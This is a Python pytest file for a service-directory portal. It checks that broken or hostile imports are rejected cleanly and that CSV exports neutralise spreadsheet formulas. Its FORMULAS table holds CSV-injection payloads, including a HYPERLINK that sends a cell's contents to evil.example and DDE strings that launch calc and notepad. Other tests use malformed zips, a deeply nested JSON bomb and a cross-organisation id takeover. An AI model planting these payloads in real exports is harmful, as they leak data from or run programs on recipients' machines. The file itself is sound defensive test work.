"""Hostile and broken imports: damaged zips, unreadable CSV, records of another organisation named by id,
files built to block the server, and spreadsheet formulas in exports. Each gets a clear 400 page that
says nothing was changed, and nothing is; never a 5xx."""
from __future__ import annotations

import copy
import csv
import io
import json
import struct
import threading
import time
import zipfile
from typing import Any, Callable

import pytest
import requests

from services_db.database import session_factory
from services_db.hsds_io import export_document
from services_db.models import Location, Organization, Phone, Service
from tests.portal.conftest import ORG_A, ORG_B, logged_in
from tests.portal_client import PortalClient, PortalServer

IMPORT = f"/portal/orgs/{ORG_A}/import"


def _directory(server: PortalServer) -> str:
    return json.dumps(export_document(server.engine), sort_keys=True)


def _exported_zip(client: PortalClient) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/portal/orgs/{ORG_A}/export.zip").content))
    return {name: archive.read(name) for name in archive.namelist()}


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            entry = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            entry.compress_type = method
            archive.writestr(entry, data)
    return buffer.getvalue()


def _patch_central(data: bytes, name: str, offset: int, fmt: str, value: int) -> bytes:
    """Overwrites a field of `name`'s central directory entry (offset from the entry's signature)."""
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
    return data[:at + offset] + struct.pack(fmt, value) + data[at + offset + struct.calcsize(fmt):]


def _bad_crc(members: dict[str, bytes]) -> bytes:
    data = _zip(members, zipfile.ZIP_STORED)
    at = data.index(b"svc-arroios-clinica")  # inside services.csv's stored bytes
    return data[:at] + b"X" + data[at + 1:]


def _corrupt_deflate(members: dict[str, bytes]) -> bytes:
    data = bytearray(_zip(members))
    start = 30 + len("organizations.csv")  # after the first local header, organizations.csv's
    data[start:start + 8] = b"\xff" * 8
    return bytes(data)


def _truncated(members: dict[str, bytes]) -> bytes:
    # The directory says services.csv holds more bytes than the file has left.
    data = _patch_central(_zip(members, zipfile.ZIP_STORED), "services.csv", 20, "<I", 10_000_000)
    return _patch_central(data, "services.csv", 24, "<I", 10_000_000)


def _encrypted(members: dict[str, bytes]) -> bytes:
    # Flag bit 0, "encrypted", as a zip tool with a password writes it (zipfile cannot encrypt).
    return _patch_central(_zip(members), "services.csv", 8, "<H", 0x1)


def _unknown_method(members: dict[str, bytes]) -> bytes:
    return _patch_central(_zip(members, zipfile.ZIP_STORED), "services.csv", 10, "<H", 99)


def _with_services(members: dict[str, bytes], services: bytes) -> bytes:
    return _zip({**members, "services.csv": services})


@pytest.mark.parametrize("build, message", [
    (_bad_crc, "The zip is damaged"),
    (_corrupt_deflate, "The zip is damaged"),
    (_truncated, "The zip is damaged"),
    (_unknown_method, "The zip is damaged"),
    (_encrypted, "protected with a password"),
    (lambda m: _with_services(m, m["services.csv"].replace(b"Arroios", b"Arr\x00ios", 1)),
     "services.csv cannot be read as CSV"),
    (lambda m: _with_services(m, m["services.csv"] + b'svc-x,"' + b"x" * 200_000 + b'"\r\n'),
     "services.csv cannot be read as CSV"),
    (lambda m: _with_services(m, m["services.csv"].replace(b"Arroios", b"Arr\xe9ios", 1)),
     "services.csv is not UTF-8 text"),
])
def test_a_broken_zip_gets_a_clear_400_and_changes_nothing(server: PortalServer, build, message) -> None:  # type: ignore[no-untyped-def]
    client = logged_in(server, "staff-a")
    body = build(_exported_zip(client))
    before = _directory(server)
    reply = client.post(IMPORT, files={"file": ("listings.zip", body, "application/zip")})
    assert reply.status_code == 400, reply.text[:300]
    assert message in reply.text and "Nothing was changed" in reply.text
    assert _directory(server) == before


def _own_document(client: PortalClient) -> dict[str, Any]:
    return client.get(f"/portal/orgs/{ORG_A}/export.json").json()


def _set(document: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    changed = copy.deepcopy(document)
    change(changed)
    return changed


HOSTILE_DOCUMENTS: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("services not a list", lambda d: d.update(services=5), "must be a list of objects"),
    ("locations not a list", lambda d: d.update(locations="everywhere"), "must be a list of objects"),
    ("extension not an object", lambda d: d["services"][0].update(x_migrant_rights="x"), "must be an object"),
    ("location extension not an object", lambda d: d["locations"][0].update(x_migrant_rights=[1]),
     "must be an object"),
    ("translations not an object", lambda d: d["services"][0]["x_migrant_rights"].update(translations=["ar"]),
     "must be an object"),
    ("a translation name not text", lambda d: d["services"][0]["x_migrant_rights"].update(
        translations={"ar": {"name": ["x"]}}), "must be text"),
    ("phone type not text", lambda d: d["services"][0]["phones"][0].update(type={"a": 1}), "must be text"),
    ("phone number not text", lambda d: d["services"][0]["phones"][0].update(number=[351]), "must be text"),
    ("child id not text", lambda d: d["services"][0]["schedules"][0].update(id=["x"]), "must be a non-empty text"),
    ("child id too long", lambda d: d["services"][0]["languages"][0].update(id="l" * 200),
     "must be a non-empty text"),
    ("same phone id twice", lambda d: d["services"][1]["phones"].append(dict(d["services"][0]["phones"][0])),
     "appears twice"),
    ("a NUL character", lambda d: d["services"][0].update(name="Clinic\x00"), "NUL"),
    ("organisation website not text", lambda d: d["organizations"][0].update(website=7), "must be text"),
    ("a phone not an object", lambda d: d["services"][0].update(phones=["+351"]), "must be a list of objects"),
]


@pytest.mark.parametrize("change, message", [(c, m) for _, c, m in HOSTILE_DOCUMENTS],
                         ids=[name for name, _, _ in HOSTILE_DOCUMENTS])
def test_odd_values_in_a_json_import_are_problems_not_500s(server: PortalServer, change, message) -> None:  # type: ignore[no-untyped-def]
    client = logged_in(server, "staff-a")
    document = _set(_own_document(client), change)
    before = _directory(server)
    reply = client.post(IMPORT, files={"file": ("x.json", json.dumps(document), "application/json")})
    assert reply.status_code == 400, reply.text[:300]
    assert message in reply.text and "Nothing was changed" in reply.text
    assert _directory(server) == before


def test_deeply_nested_json_is_refused_not_a_500(server: PortalServer) -> None:
    client = logged_in(server, "staff-a")
    reply = client.post(IMPORT, files={"file": ("x.json", "[" * 200_000 + "]" * 200_000, "application/json")})
    assert reply.status_code == 400 and "not a JSON file we can read" in reply.text


def _records_of(server: PortalServer, organization_id: str) -> dict[str, Any]:
    return export_document(server.engine, [organization_id])


@pytest.mark.parametrize("table, kind", [("phones", "phone"), ("schedules", "schedule"), ("languages", "language"),
                                         ("service_at_locations", "service_at_location")])
def test_an_import_cannot_take_over_another_organisations_phone_schedule_language_or_link(
        server: PortalServer, table: str, kind: str) -> None:
    client = logged_in(server, "staff-a")
    theirs = _records_of(server, ORG_B)
    stolen_id = theirs["services"][0][table][0]["id"]
    document = _own_document(client)
    document["services"][0][table][0]["id"] = stolen_id
    before = _directory(server)
    reply = client.post(IMPORT, files={"file": ("x.json", json.dumps(document), "application/json")})
    assert reply.status_code == 400, reply.text[:300]
    assert f"{kind} &#39;{stolen_id}&#39;, field &#39;id&#39;: belongs to another organisation" in reply.text
    assert _directory(server) == before
    # The same through the CSV tables.
    members = _exported_zip(client)
    rows = list(csv.DictReader(io.StringIO(members[f"{table}.csv"].decode())))
    rows[0]["id"] = stolen_id
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    members[f"{table}.csv"] = out.getvalue().encode()
    reply = client.post(IMPORT, files={"file": ("x.zip", _zip(members), "application/zip")})
    assert reply.status_code == 400 and "belongs to another organisation" in reply.text
    assert _directory(server) == before


def _slow_zip(rows: int) -> bytes:
    """`rows` listings of services.csv (100 bytes each), compressing to far under the 5 MB upload limit."""
    header = "id,organization_id,name,description,status,x_migrant_rights\r\n"
    line = f"svc-{{}},{ORG_A},Name,{'d' * 40},active,{{{{}}}}\r\n"
    body = header + "".join(line.format(i) for i in range(rows))
    return _zip({"organizations.csv": f"id,name\r\n{ORG_A},Org\r\n".encode(), "services.csv": body.encode()})


def test_a_big_import_is_parsed_off_the_event_loop(server: PortalServer) -> None:
    client = logged_in(server, "staff-a")
    body = _slow_zip(100_000)
    assert len(body) < 5 * 1024 * 1024
    before = _directory(server)
    done: dict[str, Any] = {}

    def upload() -> None:
        started = time.monotonic()
        done["reply"] = client.post(IMPORT, files={"file": ("big.zip", body, "application/zip")})
        done["seconds"] = time.monotonic() - started

    worker = threading.Thread(target=upload)
    worker.start()
    time.sleep(0.3)  # the upload itself is quick on loopback: from here on the server parses
    slowest = 0.0
    while worker.is_alive():
        started = time.monotonic()
        assert requests.get(server.url + "/health", timeout=60).status_code == 200
        slowest = max(slowest, time.monotonic() - started)
        time.sleep(0.05)
    worker.join()
    assert done["reply"].status_code == 400 and "Nothing was changed" in done["reply"].text
    assert done["seconds"] > 2.0, "the import was too quick to tell anything"
    assert slowest < 1.0, f"a health check waited {slowest:.1f} s behind the import"
    assert _directory(server) == before


def test_a_file_with_many_problems_lists_the_first_ones_and_counts_the_rest(server: PortalServer) -> None:
    client = logged_in(server, "staff-a")
    document = _own_document(client)
    location_id = document["locations"][0]["id"]
    bad = {"organization_id": ORG_A, "name": "Bad", "status": "open", "service_at_locations": [{"location_id": location_id}],
           "x_migrant_rights": {"category": "health", "requires_id": "no"}}
    document["services"] += [dict(bad, id=f"svc-bad-{i}") for i in range(5000)]
    reply = client.post(IMPORT, files={"file": ("x.json", json.dumps(document), "application/json")})
    assert reply.status_code == 400 and "5000 problem(s)" in reply.text, reply.text[-2000:]
    assert reply.text.count("<li>") <= 200 and "more not shown" in reply.text


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C notepad'!A0",
    "website": "\t=1+1",
    "tricky": "'=already quoted by its author",
    "phone": "+351 21 000 0000",
}


def test_csv_export_neutralises_formulas_and_the_round_trip_is_exact(server: PortalServer) -> None:
    client = logged_in(server, "staff-a")
    with session_factory(server.engine).begin() as db:
        service = db.get(Service, "svc-arroios-dentista")
        service.name, service.description = FORMULAS["name"], FORMULAS["tricky"]
        db.get(Service, "svc-arroios-clinica").description = FORMULAS["description"]
        location = db.get(Location, db.get(Service, "svc-arroios-clinica").service_at_locations[0].location_id)
        location.address = FORMULAS["address"]
        db.get(Organization, ORG_A).website = FORMULAS["website"]
        db.query(Phone).filter(Phone.service_id == "svc-arroios-clinica").one().number = FORMULAS["phone"]
    exported = _own_document(client)  # the JSON export is data for programs: unchanged
    assert {s["name"] for s in exported["services"]} >= {FORMULAS["name"]}
    assert any(p["number"] == FORMULAS["phone"] for s in exported["services"] for p in s["phones"])
    members = _exported_zip(client)
    cells = [cell for member in members.values() for row in csv.reader(io.StringIO(member.decode()))
             for cell in row]
    for value in FORMULAS.values():
        assert value not in cells
        assert "'" + value in cells
    numbers = [cell for cell in cells if cell.startswith("-")]
    assert numbers and all(float(cell) < 0 for cell in numbers)  # negative coordinates stay numbers
    before = _directory(server)
    reply = client.post(IMPORT, files={"file": ("x.zip", _zip(members), "application/zip")})
    assert reply.status_code == 200, reply.text[:400]
    assert _directory(server) == before
